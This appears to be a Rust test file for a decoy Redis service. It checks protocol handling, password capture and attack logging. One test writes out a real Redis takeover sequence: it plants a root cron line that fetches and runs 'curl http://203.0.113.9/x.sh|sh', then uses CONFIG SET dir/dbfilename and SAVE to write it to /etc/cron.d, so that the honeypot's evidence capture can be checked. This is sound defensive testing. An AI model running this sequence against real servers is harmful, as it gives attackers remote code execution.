//! The redis service against redis-cli and against raw sockets.

use std::{path::Path, process::Command};

use decnet_logline::captured_secret;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use crate::scene::{Scene, document, field, run, tool};

fn cli(program: &Path, scene: &Scene, args: &[&str]) -> Command {
    let address = scene.address("redis");
    let mut command = Command::new(program);
    command
        .args(["-h", "127.0.0.1", "-p", &address.port().to_string()])
        .args(args)
        .env_remove("REDISCLI_AUTH");
    command
}

async fn say(program: &Path, scene: &Scene, args: &[&str]) -> String {
    let output = run(cli(program, scene, args)).await;
    String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).trim_end().to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn redis_cli_speaks_both_protocols_and_the_keyspace_is_consistent() {
    let Some(program) = tool("redis-cli", "redis-tools") else { return };
    let scene = Scene::start(&["redis"]).await;
    assert_eq!(say(&program, &scene, &["ping"]).await, "PONG");
    let size: usize = say(&program, &scene, &["dbsize"]).await.parse().unwrap();
    assert!(size > 8);
    for version in [&["--scan"][..], &["-3", "--scan"][..], &["keys", "*"][..]] {
        assert_eq!(say(&program, &scene, version).await.lines().count(), size, "{version:?}");
    }
    assert!(say(&program, &scene, &["info", "server"]).await.contains("redis_version:7.0.15"));
    assert_eq!(say(&program, &scene, &["-3", "hset", "h", "a", "1"]).await, "1");
    assert_eq!(say(&program, &scene, &["-3", "--json", "hgetall", "h"]).await, "{\"a\":\"1\"}");
    let keys = say(&program, &scene, &["--bigkeys"]).await;
    assert!(keys.contains(&format!("Sampled {} keys in the keyspace!", size + 1)), "{keys}");
    let record = scene.lines.nth("command", 0).await;
    assert_eq!((field(&record, "cmd"), field(&record, "args")), ("PING", "[]"));
}

#[tokio::test(flavor = "multi_thread")]
async fn passwords_are_captured() {
    let Some(program) = tool("redis-cli", "redis-tools") else { return };
    let mut config = document(&["redis"], 6);
    config.services[0].settings.insert("password".to_owned(), "fo]ob\"ar".to_owned());
    let scene = Scene::of(config).await;
    assert_eq!(say(&program, &scene, &["get", "a"]).await, "NOAUTH Authentication required.");
    let wrong = say(&program, &scene, &["auth", "guess"]).await;
    assert_eq!(wrong, "WRONGPASS invalid username-password pair or user is disabled.");
    let right = say(
        &program,
        &scene,
        &["--user", "default", "--pass", "fo]ob\"ar", "--no-auth-warning", "get", "nothing"],
    )
    .await;
    assert_eq!(right, "");
    scene.lines.nth("auth", 1).await;
    let caught: Vec<_> = scene
        .lines
        .of("auth")
        .iter()
        .map(|record| captured_secret(record).unwrap())
        .map(|secret| (secret.principal, secret.printable.unwrap(), secret.outcome.unwrap()))
        .collect();
    assert_eq!(
        caught,
        [
            (None, "guess".to_owned(), "failure".to_owned()),
            (Some("default".to_owned()), "fo]ob\"ar".to_owned(), "success".to_owned())
        ]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_takeover_leaves_its_payload_as_evidence() {
    let Some(program) = tool("redis-cli", "redis-tools") else { return };
    let mut config = document(&["redis"], 7);
    "ubuntu20".clone_into(&mut config.persona.distro);
    let scene = Scene::of(config).await;
    let payload =
        format!("\n\n*/1 * * * * root curl -fsSL http://203.0.113.9/x.sh|sh\n\n{}", "#".repeat(40_000));
    for args in [
        &["set", "x", &payload][..],
        &["config", "set", "dir", "/etc/cron.d"],
        &["config", "set", "dbfilename", "root"],
        &["save"],
    ] {
        assert_eq!(say(&program, &scene, args).await, "OK", "{args:?}");
    }
    let record = scene.lines.nth("file_captured", 0).await;
    assert_eq!(field(&record, "path"), "/etc/cron.d/root");
    let kept = scene.artifact(field(&record, "stored_as"));
    assert!(String::from_utf8_lossy(&kept).contains(&payload));
    let steps: Vec<String> =
        scene.lines.of("rce_attempt").iter().map(|record| field(record, "technique").to_owned()).collect();
    assert_eq!(steps, ["config_dir", "config_dbfilename", "file_write"]);
    let set = scene.lines.nth("command", 0).await;
    assert_eq!(scene.artifact(field(&set, "arg_stored_as")), payload.as_bytes());
}

#[tokio::test(flavor = "multi_thread")]
async fn pipelines_inline_commands_and_garbage() {
    let scene = Scene::start(&["redis"]).await;
    let talk = async |input: &[u8]| {
        let mut stream = TcpStream::connect(scene.address("redis")).await.unwrap();
        stream.write_all(input).await.unwrap();
        stream.shutdown().await.unwrap();
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).await.unwrap();
        String::from_utf8_lossy(&answer).into_owned()
    };
    assert_eq!(
        talk(b"PING\r\n*2\r\n$4\r\nECHO\r\n$2\r\nhi\r\nSET a \"1 2\"\nGET a\r\n").await,
        "+PONG\r\n$2\r\nhi\r\n+OK\r\n$3\r\n1 2\r\n"
    );
    assert_eq!(talk(b"*1\r\n:1\r\nPING\r\n").await, "-ERR Protocol error: expected '$', got ':'\r\n");
    assert_eq!(talk(b"*4000000000\r\n").await, "-ERR Protocol error: invalid multibulk length\r\n");
    assert_eq!(talk(b"POST / HTTP/1.1\r\nHost: x\r\n\r\n").await, "");
    // What was answered before the second line is never sent.
    assert_eq!(talk(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").await, "");
    // A hello of TLS holds a NUL: upstream waits for the end of its line and says nothing.
    assert_eq!(talk(b"\x16\x03\x01\x00\x05\r\n").await, "");
    let large = [b"*2\r\n$4\r\nECHO\r\n$900000\r\n".as_slice(), &vec![b'x'; 900_000], b"\r\n"].concat();
    assert_eq!(talk(&large).await.len(), 900_000 + 11);
    assert_eq!(talk(b"PING\r\n").await, "+PONG\r\n");
    let records = scene.lines.of("rce_attempt");
    assert_eq!(field(records.first().unwrap(), "technique"), "cross_protocol");
    let errors = scene.lines.of("protocol_error");
    assert!(errors.iter().any(|record| field(record, "reason") == "unfinished request"));
}
